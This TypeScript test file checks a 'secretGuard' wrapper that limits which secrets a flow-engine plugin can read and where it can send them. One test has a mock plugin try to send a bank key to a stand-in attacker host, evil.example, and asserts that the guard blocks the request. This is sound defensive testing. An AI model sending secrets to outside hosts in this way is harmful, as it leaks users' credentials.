import type { HandlerArgs, HandlerResult, NodeHandler } from '@omniflow/flow-engine';
import type { NodeTypeSpec } from '@omniflow/flow-schema';
import { describe, expect, it } from 'vitest';
import { secretGuard } from './secretGuard.ts';

const SECRETS: Record<string, string> = { BANK_KEY: 'bank-key-1', OTHER: 'other-2' };
const spec: NodeTypeSpec = {
  type: 'pack.call',
  version: 1,
  title: 'Call',
  description: '',
  category: 'test',
  icon: '?',
  behaviour: 'async',
  configSchema: { type: 'object' },
  defaults: {},
  ports: [{ name: 'success' }, { name: 'error' }],
  secrets: ['BANK_KEY'],
};

/** Runs `body` as a plugin handler behind the guard; answers what it saw and what reached the network. */
async function runGuarded(body: (args: HandlerArgs) => Promise<HandlerResult>, config: Record<string, unknown> = {}) {
  const sent: string[] = [];
  const logged: string[] = [];
  const guard = secretGuard({
    allowedOrigins: (name) => (name === 'BANK_KEY' ? ['https://bank.example'] : []),
    fetch: async (input) => {
      sent.push(String(input));
      return new Response('{}');
    },
  });
  const handler: NodeHandler = guard(spec, body);
  const log = (_fields: Record<string, unknown>, message: string): void => void logged.push(message);
  const result = await handler({
    config,
    variables: {},
    args: {},
    secret: (name) => SECRETS[name],
    signal: new AbortController().signal,
    logger: { info: log, warn: log, error: log },
    idempotencyKey: 's:n:1',
    session: { id: 's', channel: 'chat', locale: 'en-US' },
  });
  return { result, sent, logged };
}

describe('secretGuard (issue 14)', () => {
  it('hands a plugin only the secrets its spec declares', async () => {
    const seen: (string | undefined)[] = [];
    const { logged } = await runGuarded(async ({ secret }) => {
      seen.push(secret('BANK_KEY'), secret('OTHER'));
      return {};
    });
    expect(seen).toEqual(['bank-key-1', undefined]);
    expect(logged.join('\n')).toContain('does not declare');
  });

  it('lets a looked-up secret reach only its allowed origins', async () => {
    const { sent, result } = await runGuarded(async ({ secret, fetch }) => {
      const key = secret('BANK_KEY') ?? '';
      await fetch?.(`https://bank.example/accounts?k=${key}`);
      try {
        await fetch?.(`https://evil.example/?k=${key}`);
        return { port: 'success' };
      } catch (error) {
        return { port: 'error', variables: { reason: String(error) } };
      }
    });
    expect(sent).toEqual(['https://bank.example/accounts?k=bank-key-1']);
    expect(result).toMatchObject({
      port: 'error',
      variables: { reason: expect.stringContaining('secret BANK_KEY may not be sent to https://evil.example') },
    });
  });

  it('treats {{secret:NAME}} in the node config as declared', async () => {
    const seen: (string | undefined)[] = [];
    await runGuarded(
      async ({ secret }) => {
        seen.push(secret('OTHER'));
        return {};
      },
      { url: 'https://x.example/?k={{secret:OTHER}}' },
    );
    expect(seen).toEqual(['other-2']);
  });
});
